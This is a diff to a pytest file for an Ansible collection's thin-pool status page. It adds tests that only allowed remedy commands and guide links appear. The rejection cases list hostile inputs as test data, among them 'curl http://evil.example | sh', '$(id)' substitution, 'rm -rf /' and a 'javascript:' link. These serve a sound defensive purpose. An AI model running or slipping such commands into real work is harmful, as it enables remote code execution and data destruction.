@@ -17,7 +17,8 @@ import pytest
 # A managed host has neither; the page is made on the controller alone.
 pytest.importorskip("jinja2")
 
-from ansible_collections.devicemapper.containers.plugins.plugin_utils import _page
+from ansible_collections.devicemapper.containers.plugins.module_utils._monitor import remedies
+from ansible_collections.devicemapper.containers.plugins.plugin_utils import _page, _untrusted
 
 
 def load(path: Path):
@@ -311,7 +312,7 @@ def test_the_page_runs_nothing_and_loads_nothing():
     for _tag, attributes in found.tags:
         assert not [name for name in attributes if name.startswith("on")]
         for name in ("href", "src"):
-            assert re.match("#|data:,$", attributes.get(name) or "#")
+            assert re.match(f"#|data:,$|{re.escape(remedies.GUIDES)}/[a-z_]+[.]md", attributes.get(name) or "#")
 
 
 # --- Whether it holds together ----------------------------------------------------------------------------------------
@@ -324,7 +325,7 @@ def test_ids_are_unique_and_every_reference_leads_somewhere():
     for _tag, attributes in found.tags:
         for name in ("href", "aria-labelledby"):
             target = (attributes.get(name) or "").removeprefix("#") if sys.version_info >= (3, 9) else ""
-            assert target in {*ids, "", "data:,"}, target
+            assert target in {*ids, "", "data:,"} or target.startswith(f"{remedies.GUIDES}/"), target
 
 
 def test_headings_go_down_one_step_at_a_time():
@@ -389,3 +390,66 @@ def test_the_filter_is_the_page_and_its_refusals():
     html, refused = ran.stdout.split("refused: ")
     assert html.strip() == page(("node1", {}, {})).strip()
     assert refused.startswith("thin_pool_page: 'generated' must be the time at which the page is made")
+
+
+# --- What helps -------------------------------------------------------------------------------------------------------
+
+GROW = "ansible-playbook devicemapper.containers.grow -i inventory.yml --limit node1"
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        GROW,
+        f"{GROW} -e thin_pool_engine=containerd",
+        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args "
+        "'pvresize /dev/disk/by-id/virtio-data1 && lvextend --yes --use-policies docker/thinpool'",
+        "ansible node1 -i inventory.yml --become --module-name devicemapper.containers.thin_pool_usage_info --args "
+        "'vg=docker name=thinpool limit=10'",
+    ],
+)
+def test_a_command_that_helps_is_on_the_card_to_be_copied(command):
+    pool = {"vg": "docker", "name": "thinpool", "verdict": "critical", "sentence": "full"}
+    reason = {
+        "kind": "out_of_data",
+        "severity": "critical",
+        "message": "full",
+        "command": command,
+        "guide": "javascript:1",
+    }
+    html = page(("node1", {"pools": [{**pool, "reasons": [reason, reason]}]}, fleet.NO_USAGE))
+    found = Seen(html)
+    assert found.text.count(command) == 2
+    assert html.count(f'href="{remedies.GUIDES}/full_pool.md"') == 2
+    assert "javascript:" not in html
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "ansible-playbook devicemapper.containers.reset -i inventory.yml --limit node1",
+        "ansible-playbook devicemapper.containers.grow -i inventory.yml --limit node2",
+        "ansible-playbook devicemapper.containers.grow -i inventory.yml --limit all",
+        f"{GROW}; curl http://evil.example | sh",
+        f"{GROW} -e x=$(id)",
+        f"{GROW}\nrm -rf /",
+        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args 'rm -rf /'",
+        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args 'lvextend x && reboot'",
+        "ansible node1 -i inventory.yml --become --module-name ansible.builtin.shell --args 'lvextend `id`'",
+        "ansible all -i inventory.yml --become --module-name ansible.builtin.shell --args 'lvchange --refresh a/b'",
+        "",
+    ],
+)
+def test_a_host_cannot_have_another_command_copied(command):
+    assert _untrusted.copyable("node1", command) == ""
+
+
+def test_every_command_that_the_modules_tell_is_shown():
+    told = 0
+    for name, check, _usage in fleet.answers(60):
+        for pool in check.get("pools", []):
+            for reason in pool["reasons"]:
+                command = reason["command"] or ""
+                assert _untrusted.copyable(name, command) == command
+                told += bool(command)
+    assert told > 5
